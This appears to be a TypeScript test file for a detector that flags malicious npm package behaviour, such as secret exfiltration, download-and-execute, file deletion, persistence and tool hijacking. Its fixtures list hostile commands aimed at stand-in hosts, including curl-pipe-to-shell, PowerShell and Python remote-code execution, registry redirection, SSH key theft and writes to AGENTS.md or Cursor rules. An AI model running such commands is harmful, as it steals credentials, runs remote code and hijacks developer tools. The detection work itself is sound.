import { expect, test } from "vitest";

import type { Observation } from "../observation.ts";
import {
  places,
  tried,
  triggerWith,
  idsOf,
  file,
  download,
  addon,
  program,
  command,
} from "../../test/tried.ts";
import { findBehaviours } from "./find-behaviours.ts";

test.each<[string, Observation]>([
  ["planted-secret-sent", tried({ kind: "network", api: "https.request", honey: ["npm-token"] })],
  ["planted-secret-sent", tried({ kind: "dns", api: "dns.lookup", honey: ["aws-key"] })],
  ["download-executed", command("curl -s http://collector.invalid/a | sh")],
  ["download-executed", command('powershell -c "iex (iwr http://collector.invalid/a)"')],
  ["download-executed", tried({ kind: "code", api: "eval", honey: ["download"] })],
  ["download-executed", download({ arguments: ["--daemon"] })],
  ["download-executed", download({ path: "/tmp/tool" })],
  ["download-executed", download({ text: "#!/bin/sh" })],
  ["download-tried", download({})],
  ["download-tried", addon(`${places.packageFolder}/vendor/binding.node`)],
  ["download-executed", addon("/tmp/binding.node")],
  [
    "planted-secret-sent",
    tried({
      kind: "network",
      api: "https.request",
      honey: ["git-token"],
      data: { method: "GET", url: "https://api.github.com/user" },
    }),
  ],
  [
    "planted-secret-sent",
    tried({
      kind: "network",
      api: "https.request",
      honey: ["git-token", "aws-key"],
      data: { method: "GET", url: "https://api.github.com/repos/a/b/releases" },
    }),
  ],
  ["files-destroyed", file("rm", "/home/ada")],
  ["files-destroyed", file("rmSync", "/home/ada/Documents")],
  ["files-destroyed", file("promises.rm", "/")],
  ["files-destroyed", file("unlink", "/home/ada/Documents/invoice.pdf")],
  ["files-destroyed", file("rm", "/home/ada/code/app")],
  ["files-destroyed", file("rm", "/home/ada/code/app/src")],
  ["files-destroyed", file("rm", "/home/ada/code/app/.git")],
  ["files-destroyed", file("rm", "/home/ada/code/other")],
  ["files-destroyed", program("rm", "/home/ada/Documents")],
  ["files-destroyed", program("/bin/rm", "/")],
  ["files-destroyed", program("find -delete", "/home/ada")],
  ["files-destroyed", program("powershell Remove-Item", "/home/ada", { effect: "delete-file" })],
  ["stays-installed", program("sh >", "/home/ada/.bashrc")],
  ["stays-installed", program("cp", "a.desktop", { to: "/home/ada/.config/autostart/a.desktop" })],
  ["tool-taken-over", program("tee", "/home/ada/.ssh/authorized_keys")],
  ["tool-taken-over", file("appendFile", "/home/ada/.npmrc")],
  ["tool-taken-over", command("git config --global core.hooksPath /tmp/hooks")],
  ["tool-taken-over", command("npm config set registry http://collector.invalid/")],
  ["credentials-read", program("cat", "/home/ada/.ssh/id_ed25519")],
  ["credentials-read", program("cp", "/home/ada/.aws/credentials", { to: "/tmp/c" })],
  ["tracks-covered", program("rm", `${places.packageFolder}/setup.js`)],
  ["tracks-covered", file("rename", `${places.packageFolder}/setup.js`, "/tmp/z.txt")],
  ["tracks-covered", command("npm pkg delete scripts.postinstall")],
  [
    "planted-secret-sent",
    tried({
      kind: "network",
      api: "https.request",
      honey: ["git-token"],
      data: {
        method: "GET",
        url: "https://api.github.com/repos/a/b/releases/tags/x",
        isToldByAddress: true,
      },
    }),
  ],
  ["package-published", command("npm publish --access public")],
  ["stays-installed", file("appendFile", "/home/ada/.bashrc")],
  ["stays-installed", file("writeFile", "/home/ada/.config/systemd/user/a.service")],
  ["stays-installed", command("schtasks /create /tn a /tr b")],
  ["tool-taken-over", file("writeFile", "/home/ada/code/app/.vscode/tasks.json")],
  ["tool-taken-over", file("writeFile", "/home/ada/code/app/.git/hooks/pre-commit")],
  ["stays-installed", command("echo node a.js | at now + 5 minutes")],
  ["stays-installed", command("systemd-run --user --on-calendar=hourly node a.js")],
  ["stays-installed", command("launchctl submit -l a -- node a.js")],
  ["stays-installed", file("writeFile", "/home/ada/.local/lib/python3.11/site-packages/a.pth")],
  ["tool-taken-over", file("appendFile", "/home/ada/code/app/.git/config")],
  ["tool-taken-over", file("appendFile", "/home/ada/code/app/AGENTS.md")],
  ["tool-taken-over", file("writeFile", "/home/ada/code/app/.cursor/rules/a.mdc")],
  ["tool-taken-over", file("writeFile", "/home/ada/.vscode/extensions/a.b-1.0.0/extension.js")],
  ["tool-taken-over", file("writeFile", "/home/ada/.local/bin/git")],
  ["tool-taken-over", file("appendFile", "/etc/hosts")],
  ["tool-taken-over", command("git config core.fsmonitor 'node a.js'")],
  ["tool-taken-over", command("git config core.hooksPath node_modules/lib/hooks")],
  ["tool-taken-over", command("npm config set script-shell /tmp/a")],
  ["download-executed", command("npx -y https://files.invalid/a.tgz")],
  ["download-executed", command("python3 -c \"exec(urllib.request.urlopen('http://a.invalid').read())\"")],
  ["neighbour-changed", file("appendFile", `${places.project}/src/index.ts`)],
  ["neighbour-changed", file("writeFile", `${places.project}/node_modules/express/index.js`)],
  ["neighbour-changed", file("appendFile", `${places.project}/node_modules/@a/b/lib/c.cjs`)],
  [
    "neighbour-changed",
    file("writeFile", `${places.project}/node_modules/.bin/tsc`, undefined, { isMade: true }),
  ],
  ["neighbour-changed", file("rename", "/tmp/x", `${places.project}/node_modules/.bin/tsc`)],
  [
    "neighbour-changed",
    file("rename", "/tmp/x", `${places.project}/node_modules/express/index.js`, {
      isMade: true,
      isOver: true,
    }),
  ],
  ["neighbour-changed", program("sh >", `${places.project}/node_modules/express/index.js`)],
  ["tracks-covered", file("unlink", `${places.packageFolder}/setup.js`)],
  [
    "tracks-covered",
    file("rename", `${places.packageFolder}/package.md`, `${places.packageFolder}/package.json`),
  ],
  [
    "tracks-covered",
    file("rename", `${places.packageFolder}/p`, `${places.packageFolder}/package.json`, { isMade: true }),
  ],
  [
    "git-hook-installed",
    file("writeFile", "/home/ada/code/app/.git/hooks/pre-commit", undefined, { isStarter: true }),
  ],
  ["hidden-command", command("bash -c id", true)],
  ["credentials-read", file("readFile", "/home/ada/.ssh/id_ed25519")],
  [
    "hidden-address",
    tried({ kind: "network", api: "fetch", data: { url: "https://collector.invalid" }, decoded: true }),
  ],
])("findBehaviours() finds %s", (id, observation) => {
  expect(idsOf(observation)).toContain(id);
});

test.each<[string, Observation]>([
  [
    "a download of a program",
    tried({ kind: "network", api: "https.request", data: { url: "https://files.example/a.tgz" } }),
  ],
  [
    "keeping what was downloaded",
    tried({
      kind: "file",
      api: "fs.writeFile",
      honey: ["download"],
      data: { path: `${places.packageFolder}/bin/tool` },
    }),
  ],
  ["sending on what was downloaded", tried({ kind: "network", api: "https.request", honey: ["download"] })],
  [
    "listening at a port",
    tried({ kind: "network", api: "http.listen", data: { host: "127.0.0.1", port: 4_444 }, decoded: true }),
  ],
  [
    "asking a wallet of the page",
    tried({ kind: "network", api: "solana.signTransaction", data: { text: "{}" }, decoded: true }),
  ],
  ["reading npm's settings, as honest installers do", file("readFile", "/home/ada/.npmrc")],
  ["writing into the package's own folder", file("writeFile", `${places.packageFolder}/bin/tool`)],
  [
    "making a file beside packages",
    file("writeFile", `${places.project}/node_modules/express/cache.json`, undefined, { isMade: true }),
  ],
  [
    "generating into a folder with a dot",
    file("writeFile", `${places.project}/node_modules/.client/index.js`),
  ],
  ["giving its program a command's name", file("symlink", "/x", `${places.project}/node_modules/.bin/lib`)],
  [
    "putting a native program beside another package",
    file("copyFile", "/tmp/x", `${places.project}/node_modules/@a/engines/engine.node`, { isMade: true }),
  ],
  ["deleting temporary files", file("rm", "/tmp/lib-build")],
  ["deleting a folder of the package by a command", program("rm", `${places.packageFolder}/build`)],
  ["looking for files in the home", program("find", "/home/ada")],
  ["listing keys", program("ls", "/home/ada/.ssh/id_ed25519")],
  [
    "moving a script within the package",
    file("rename", `${places.packageFolder}/a.js`, `${places.packageFolder}/b.js`),
  ],
  ["moving what it made", file("rename", `${places.packageFolder}/a.js`, "/tmp/a.js", { isMade: true })],
  ["settings of git for this repository", command("git config core.hooksPath .husky")],
  ["deleting a folder of the package", file("rm", `${places.packageFolder}/build`)],
  [
    "deleting what a tool has written deep in the project",
    file("rm", "/home/ada/code/app/.husky/_/husky.sh"),
  ],
  ["deleting what is built", file("rm", "/home/ada/code/app/dist")],
  ["deleting an installed package", file("rm", "/home/ada/code/app/node_modules/other")],
  ["deleting a cache below the home", file("rm", "/home/ada/.cache/lib")],
  ["deleting what it made", file("unlink", "/home/ada/code/app/.cache/a", undefined, { isMade: true })],
  [
    "writing its manifest with the same scripts",
    file("writeFile", `${places.packageFolder}/package.json`, undefined, { keepsScripts: true }),
  ],
  [
    "asking for a release as whom the machine's token says",
    tried({
      kind: "network",
      api: "https.request",
      honey: ["git-token"],
      data: { method: "GET", url: "https://api.github.com/repos/a/b/releases/tags/v1" },
    }),
  ],
  ["starting a compiler", command("node-gyp rebuild")],
  ["a shell whose command stands in the package", command("sh -c 'echo built'")],
  ["downloading to a file", command("curl -o a.tgz https://files.example/a.tgz")],
])("findBehaviours() finds nothing in %s", (_what, observation) => {
  expect(idsOf(observation)).toEqual([]);
});

test("findBehaviours() leaves packages of one scope to each other", () => {
  const packageFolder = `${places.project}/node_modules/@a/b`;
  const observation = file("writeFile", `${places.project}/node_modules/@a/c/index.js`);
  const [world, ...rest] = triggerWith([observation]).worlds;
  const worlds = [
    ...(world === undefined ? [] : [{ ...world, places: { ...places, packageFolder } }]),
    ...rest,
  ];

  expect(findBehaviours([{ ...triggerWith([]), worlds }])).toEqual([]);
});

test("findBehaviours() takes the deletion of a file of its own for what covers tracks at install alone", () => {
  const deletion = file("unlink", `${places.packageFolder}/setup.js`);

  expect(idsOf(deletion, "import")).toEqual([]);
});

test("findBehaviours() names each kind once, with the worlds, the trigger and the first thing that was tried", () => {
  const first = tried({
    kind: "process",
    api: "exec",
    detail: "exec one",
    data: { command: "sh -c one" },
    decoded: true,
  });
  const second = { ...first, detail: "exec two" };

  const found = findBehaviours([triggerWith([first, second])]);

  expect(found).toHaveLength(1);
  expect(found[0]).toMatchObject({ id: "hidden-command", excerpt: "exec one" });
  expect(found[0]?.message).toContain("when it is installed (postinstall), on linux-laptop");
});

test("findBehaviours names the secrets, and cuts what is sent", () => {
  const sent = tried({
    kind: "network",
    api: "fetch",
    detail: `fetch POST https://collector.invalid/ with ${"x".repeat(500)}`,
    honey: ["npm-token", "download"],
  });

  const [finding] = findBehaviours([triggerWith([sent])]);

  expect(finding?.message).toContain("planted for it to find (npm-token), when it is installed");
  expect(finding?.message).toMatch(/xxx…$/);
  expect(finding?.excerpt).toHaveLength(240);
});

test("findBehaviours counts what is called as context alone", () => {
  const sent = tried({ kind: "network", api: "https.request", honey: ["wallet-seed"] });

  expect(findBehaviours([triggerWith([sent], "call")])).toMatchObject([
    { id: "planted-secret-sent", strength: "context" },
  ]);
  expect(findBehaviours([triggerWith([sent], "call"), triggerWith([sent])])).toMatchObject([
    { id: "planted-secret-sent", strength: "decisive" },
  ]);
});

test.each<[string, Observation, string]>([
  ["what some commands are for", file("writeFile", "/home/ada/code/app/.vscode/tasks.json"), "supporting"],
  ["what release tools are for", command("npm publish"), "supporting"],
  ["what nobody wants", file("rm", "/home/ada"), "decisive"],
])("findBehaviours counts %s less or not when a person starts it", (_, seen, strength) => {
  expect(findBehaviours([triggerWith([seen], "bin")])).toMatchObject([{ strength }]);
  expect(findBehaviours([triggerWith([seen], "bin"), triggerWith([seen])])[0]?.strength).not.toBe("context");
});

test("findBehaviours takes a main file that is a command too for a command in what commands are for", () => {
  const planted = file("writeFile", "/home/ada/code/app/.vscode/tasks.json");
  const sent = tried({ kind: "network", api: "https.request", honey: ["npm-token"] });

  const found = findBehaviours([triggerWith([planted, sent], "import"), triggerWith([planted], "bin")]);

  expect(found.map(({ id, strength }) => [id, strength])).toEqual([
    ["planted-secret-sent", "decisive"],
    ["tool-taken-over", "supporting"],
  ]);
});

test.each([
  ["in code that was made and evaluated", { text: 'fetch("https://box.invalid/")', decoded: true }, "strong"],
  [
    "in code that stands in the package",
    { text: 'fetch("https://box.invalid/")', decoded: false },
    "supporting",
  ],
  ["elsewhere", { text: "return this", decoded: true }, "supporting"],
])("a hidden address weighs by where it stands: %s", (_where, { text, decoded }, expected) => {
  const asked = {
    kind: "network",
    api: "fetch",
    decoded: true,
    data: { url: "https://box.invalid/" },
  } as const;
  const trigger = triggerWith([
    tried({ kind: "code", api: "Function", decoded, data: { text } }),
    tried(asked),
  ]);

  expect(findBehaviours([trigger]).map(({ id, strength }) => [id, strength])).toEqual([
    ["hidden-address", expected],
  ]);
  expect(findBehaviours([{ ...trigger, trigger: { ...trigger.trigger, kind: "bin" } }])[0]?.strength).toBe(
    "supporting",
  );
});
